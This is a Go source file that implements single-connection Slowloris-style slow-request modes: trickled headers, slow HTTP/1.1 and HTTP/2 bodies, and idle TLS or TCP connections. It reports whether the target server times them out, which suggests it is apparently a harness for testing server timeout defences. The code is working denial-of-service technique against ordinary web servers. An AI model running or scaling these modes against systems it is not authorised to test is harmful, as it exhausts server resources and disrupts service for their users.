package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// SlowMode selects what SlowLoris does with its one connection.
type SlowMode int

const (
	// SlowHeaders speaks HTTP/1.1 over TLS (ALPN http/1.1): it sends a
	// request line, then one header byte per interval, never ending the
	// headers.
	SlowHeaders SlowMode = iota + 1
	// SlowBody speaks HTTP/1.1 over TLS: a POST with complete headers and
	// Content-Length 1 MiB, then one body byte per interval.
	SlowBody
	// SlowBodyH2 speaks HTTP/2 (ALPN h2): one stream with a HEADERS frame
	// (POST, content-length 1 MiB), then a 1-byte DATA frame per interval,
	// within the flow-control window.
	SlowBodyH2
	// IdleTLS completes the TLS handshake (ALPN http/1.1, or the
	// tls.Config's NextProtos if set), then sends nothing.
	IdleTLS
	// SlowTLSHandshake connects over TCP and sends nothing, not even a
	// ClientHello.
	SlowTLSHandshake
)

// String returns the mode's Go name.
func (m SlowMode) String() string {
	switch m {
	case SlowHeaders:
		return "SlowHeaders"
	case SlowBody:
		return "SlowBody"
	case SlowBodyH2:
		return "SlowBodyH2"
	case IdleTLS:
		return "IdleTLS"
	case SlowTLSHandshake:
		return "SlowTLSHandshake"
	default:
		return "SlowMode(" + strconv.Itoa(int(m)) + ")"
	}
}

// slowBodyLen is the Content-Length the slow body modes announce.
const slowBodyLen = 1 << 20

// maxHead is how much of an HTTP/1.1 answer SlowLoris keeps.
const maxHead = 512

// SlowResult is how the server dealt with a SlowLoris connection.
type SlowResult struct {
	Mode SlowMode
	// Protocol is the protocol negotiated by ALPN ("" for
	// SlowTLSHandshake, or if the server chose none).
	Protocol string
	// StillOpen reports that maxDuration passed with the connection (and,
	// for SlowBodyH2, the stream) still open: the server did not bound
	// the attack.
	StillOpen bool
	// Elapsed runs from the TCP connect until the server ended the attack
	// (closed or reset the connection, or for SlowBodyH2 reset or ended
	// the stream), or until maxDuration (or ctx) stopped it. Servers
	// usually start their timers a little after our TCP connect, so
	// Elapsed is at least the server's timeout.
	Elapsed time.Duration
	// BytesSent counts the application bytes written after the TLS
	// handshake: request line, headers, body, HTTP/2 frames.
	BytesSent int64
	// BytesReceived counts the application bytes read (HTTP/1.1 and the
	// raw modes only).
	BytesReceived int64
	// StatusLine is the first line of an HTTP/1.1 answer, if any.
	StatusLine string
	// Status is the HTTP status of the server's answer, 0 if none.
	Status int
	// StreamReset and ResetCode report an RST_STREAM on the SlowBodyH2
	// stream.
	StreamReset bool
	ResetCode   http2.ErrCode
	// GoAway is the GOAWAY received on the SlowBodyH2 connection, if any.
	GoAway *GoAway
	// Err is how the server ended the attack: the read or write error
	// (io.EOF for an orderly close), nil if it ended the stream with
	// END_STREAM or RST_STREAM, or if StillOpen.
	Err error
}

// SlowLoris opens one connection to addr and runs the attack mode on it
// until the server ends it or maxDuration passes (measured from the TCP
// connect), then closes the connection. The sending modes write one byte
// per interval. interval is ignored by IdleTLS and SlowTLSHandshake.
//
// The error is non-nil if the attack could not start (bad arguments,
// dial, TLS handshake, ALPN) or ctx was cancelled (with the partial
// result).
func SlowLoris(ctx context.Context, addr string, tlsConf *tls.Config, mode SlowMode, interval, maxDuration time.Duration) (SlowResult, error) {
	return SlowLorisAt(ctx, addr, "/", tlsConf, mode, interval, maxDuration)
}

// SlowLorisAt is SlowLoris with the request path of the modes that send a
// request (SlowHeaders, SlowBody, SlowBodyH2): a route that reads its body,
// such as an RPC procedure, rather than one the server answers at once.
func SlowLorisAt(ctx context.Context, addr, path string, tlsConf *tls.Config, mode SlowMode, interval, maxDuration time.Duration) (SlowResult, error) {
	if !strings.HasPrefix(path, "/") {
		return SlowResult{}, fmt.Errorf("attack: slow loris path %q, want an absolute path", path)
	}
	if maxDuration <= 0 {
		return SlowResult{}, fmt.Errorf("attack: slow loris maxDuration %v, want > 0", maxDuration)
	}
	if tlsConf == nil {
		return SlowResult{}, ErrNoTLSConfig
	}
	sends := mode == SlowHeaders || mode == SlowBody || mode == SlowBodyH2
	if sends && interval <= 0 {
		return SlowResult{}, fmt.Errorf("attack: %v interval %v, want > 0", mode, interval)
	}
	var (
		res SlowResult
		err error
	)
	switch mode {
	case SlowHeaders, SlowBody:
		res, err = slowHTTP1(ctx, addr, path, tlsConf, mode, interval, maxDuration)
	case SlowBodyH2:
		res, err = slowH2(ctx, addr, path, tlsConf, interval, maxDuration)
	case IdleTLS:
		res, err = idleTLS(ctx, addr, tlsConf, maxDuration)
	case SlowTLSHandshake:
		res, err = idleTCP(ctx, addr, maxDuration)
	default:
		return SlowResult{}, fmt.Errorf("attack: unknown slow mode %v", mode)
	}
	res.Mode = mode
	return res, err
}

// idleTLS runs IdleTLS.
func idleTLS(ctx context.Context, addr string, conf *tls.Config, maxDuration time.Duration) (SlowResult, error) {
	protos := conf.NextProtos
	if protos == nil {
		protos = []string{"http/1.1"}
	}
	conn, connected, err := dialTLS(ctx, addr, conf, protos)
	if err != nil {
		return SlowResult{}, err
	}
	res := SlowResult{Protocol: conn.ConnectionState().NegotiatedProtocol}
	err = trickle(ctx, conn, conn.NetConn(), connected, &res, nil, nil, 0, maxDuration)
	return res, err
}

// idleTCP runs SlowTLSHandshake.
func idleTCP(ctx context.Context, addr string, maxDuration time.Duration) (SlowResult, error) {
	conn, connected, err := dialTCP(ctx, addr)
	if err != nil {
		return SlowResult{}, err
	}
	var res SlowResult
	err = trickle(ctx, conn, conn, connected, &res, nil, nil, 0, maxDuration)
	return res, err
}

// slowHTTP1 runs SlowHeaders or SlowBody.
func slowHTTP1(ctx context.Context, addr, path string, conf *tls.Config, mode SlowMode, interval, maxDuration time.Duration) (SlowResult, error) {
	conn, connected, err := dialTLS(ctx, addr, conf, []string{"http/1.1"})
	if err != nil {
		return SlowResult{}, err
	}
	res := SlowResult{Protocol: conn.ConnectionState().NegotiatedProtocol}
	host := authority(addr, conf)
	var first []byte
	var next func() (byte, bool)
	if mode == SlowHeaders {
		// The request line goes at once; then the headers, a byte at a
		// time, ending in a header value that never ends.
		first = []byte("GET / HTTP/1.1\r\n")
		headers := []byte("Host: " + host + "\r\nX-Slow-Loris: ")
		i := 0
		next = func() (byte, bool) {
			if i < len(headers) {
				i++
				return headers[i-1], true
			}
			return 'a', true
		}
	} else {
		first = []byte("POST " + path + " HTTP/1.1\r\nHost: " + host +
			"\r\nContent-Type: application/proto\r\nContent-Length: " +
			strconv.Itoa(slowBodyLen) + "\r\n\r\n")
		sent := 0
		next = func() (byte, bool) {
			if sent == slowBodyLen {
				return 0, false
			}
			sent++
			return 'a', true
		}
	}
	err = trickle(ctx, conn, conn.NetConn(), connected, &res, first, next, interval, maxDuration)
	if line, ok := strings.CutSuffix(res.StatusLine, "\r"); ok {
		res.StatusLine = line
	}
	if proto, rest, ok := strings.Cut(res.StatusLine, " "); ok && strings.HasPrefix(proto, "HTTP/") {
		code, _, _ := strings.Cut(rest, " ")
		res.Status, _ = strconv.Atoi(code)
	}
	return res, err
}

// trickle writes first, then a byte from next every interval (if next is
// not nil) on conn, while a reader goroutine reads conn, until the server
// closes the connection, maxDuration passes from connected, or ctx is
// done. It closes raw (conn's transport) and fills res. raw is closed
// rather than conn so that no TLS close_notify is written to a server
// that may have stopped reading.
func trickle(ctx context.Context, conn, raw net.Conn, connected time.Time, res *SlowResult,
	first []byte, next func() (byte, bool), interval, maxDuration time.Duration) error {
	deadline := connected.Add(maxDuration)
	var closing atomic.Bool
	stopWatch := afterDone(ctx, func() {
		closing.Store(true)
		_ = raw.Close()
	})
	r := &headReader{done: make(chan struct{})}
	go r.run(conn, &closing)

	cw := &countWriter{w: conn}
	_ = conn.SetWriteDeadline(deadline)
	var writeErr error
	var writeErrAt time.Time
	if len(first) > 0 {
		if _, err := cw.Write(first); err != nil {
			writeErr, writeErrAt = err, time.Now()
		}
	}
	timer := time.NewTimer(time.Until(deadline))
	defer timer.Stop()
	var tick <-chan time.Time
	if next != nil && writeErr == nil {
		ticker := time.NewTicker(interval)
		defer ticker.Stop()
		tick = ticker.C
	}
loop:
	for writeErr == nil {
		select {
		case <-r.done:
			break loop
		case <-timer.C:
			break loop
		case <-ctx.Done():
			break loop
		case <-tick:
			b, ok := next()
			if !ok {
				tick = nil
				continue
			}
			if _, err := cw.Write([]byte{b}); err != nil {
				writeErr, writeErrAt = err, time.Now()
			}
		}
	}
	stopWatch()
	closing.Store(true)
	_ = raw.Close()
	<-r.done

	res.BytesSent = cw.n
	res.BytesReceived = r.n
	if line, _, _ := bytes.Cut(r.head, []byte("\n")); bytes.HasPrefix(line, []byte("HTTP/")) {
		res.StatusLine = string(line)
	}
	switch {
	case r.byPeer:
		res.Elapsed, res.Err = r.at.Sub(connected), r.err
	case writeErr != nil && !errors.Is(writeErr, os.ErrDeadlineExceeded):
		res.Elapsed, res.Err = writeErrAt.Sub(connected), writeErr
	default:
		res.StillOpen = ctx.Err() == nil
		res.Elapsed = min(time.Since(connected), maxDuration)
	}
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("attack: slow loris: %w", err)
	}
	return nil
}

// headReader reads a connection until it fails, keeping the first maxHead
// bytes. It owns its fields until done is closed.
type headReader struct {
	done   chan struct{}
	head   []byte
	n      int64
	err    error
	at     time.Time // when reading failed
	byPeer bool      // reading failed before we closed the connection
}

func (r *headReader) run(conn net.Conn, closing *atomic.Bool) {
	defer close(r.done)
	buf := make([]byte, 4096)
	for {
		n, err := conn.Read(buf)
		r.n += int64(n)
		if room := maxHead - len(r.head); room > 0 {
			r.head = append(r.head, buf[:min(n, room)]...)
		}
		if err != nil {
			r.err, r.at, r.byPeer = err, time.Now(), !closing.Load()
			return
		}
	}
}

// slowStream is the reader's view of SlowBodyH2's one stream. The reader
// owns it until ended is closed (or the reader exits).
type slowStream struct {
	ended   chan struct{} // closed when the server resets or ends the stream
	endedAt time.Time
	status  int
	reset   bool
	code    http2.ErrCode
}

func (s *slowStream) end() {
	if !isClosed(s.ended) {
		s.endedAt = time.Now()
		close(s.ended)
	}
}

// onFrame is the reader's streamFrameFunc.
func (s *slowStream) onFrame(f http2.Frame) {
	if isClosed(s.ended) {
		return
	}
	switch f := f.(type) {
	case *http2.GoAwayFrame:
		if f.LastStreamID < dataStream {
			s.end() // the server will never process the stream
		}
	case *http2.RSTStreamFrame:
		if f.StreamID == dataStream {
			s.reset, s.code = true, f.ErrCode
			s.end()
		}
	case *http2.MetaHeadersFrame:
		if f.StreamID != dataStream {
			return
		}
		if st, _ := strconv.Atoi(f.PseudoValue("status")); st >= 200 || s.status == 0 {
			s.status = st
		}
		if f.StreamEnded() {
			s.end()
		}
	case *http2.DataFrame:
		if f.StreamID == dataStream && f.StreamEnded() {
			s.end()
		}
	}
}

// slowH2 runs SlowBodyH2.
func slowH2(ctx context.Context, addr, path string, conf *tls.Config, interval, maxDuration time.Duration) (SlowResult, error) {
	st := &slowStream{ended: make(chan struct{})}
	c, err := dialH2(ctx, addr, conf, st.onFrame)
	if err != nil {
		return SlowResult{}, err
	}
	res := SlowResult{Protocol: "h2"}
	deadline := c.connected.Add(maxDuration)
	_ = c.conn.SetWriteDeadline(deadline)
	fields := []headerField{
		{":method", http.MethodPost},
		{":scheme", "https"},
		{":authority", authority(addr, conf)},
		{":path", path},
		{"content-type", "application/proto"}, // what an RPC route reads
		{"content-length", strconv.Itoa(slowBodyLen)},
	}
	writeErr := c.writeHeaders(dataStream, fields, false)
	if writeErr == nil {
		writeErr = c.bw.Flush()
	}
	timer := time.NewTimer(time.Until(deadline))
	defer timer.Stop()
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	body := 0
loop:
	for writeErr == nil {
		select {
		case <-st.ended:
			break loop
		case <-c.readerDone:
			break loop
		case <-timer.C:
			break loop
		case <-ctx.Done():
			break loop
		case r := <-c.ctrl:
			if writeErr = c.writeCtrl(r); writeErr == nil {
				writeErr = c.drainCtrl()
			}
			if writeErr == nil {
				writeErr = c.bw.Flush()
			}
		case <-ticker.C:
			if body == slowBodyLen || c.sendWindow.Load() < 1 || c.streamWindow.Load() < 1 {
				continue // body complete, or no window: wait
			}
			if writeErr = c.fr.WriteData(dataStream, false, []byte{'a'}); writeErr == nil {
				writeErr = c.bw.Flush()
			}
			body++
			c.sendWindow.Add(-1)
			c.streamWindow.Add(-1)
		}
	}
	writeErrAt := time.Now()
	c.close()

	res.BytesSent = c.cw.n
	res.GoAway = c.peer.goAway
	if isClosed(st.ended) {
		res.Elapsed = st.endedAt.Sub(c.connected)
		res.Status, res.StreamReset, res.ResetCode = st.status, st.reset, st.code
	} else {
		res.Status = st.status
		switch {
		case c.peer.closedByPeer:
			res.Elapsed, res.Err = c.peer.closedAt.Sub(c.connected), c.peer.readErr
		case writeErr != nil && !errors.Is(writeErr, os.ErrDeadlineExceeded):
			res.Elapsed, res.Err = writeErrAt.Sub(c.connected), writeErr
		default:
			res.StillOpen = ctx.Err() == nil
			res.Elapsed = min(time.Since(c.connected), maxDuration)
		}
	}
	if err := ctx.Err(); err != nil {
		return res, fmt.Errorf("attack: slow loris: %w", err)
	}
	return res, nil
}
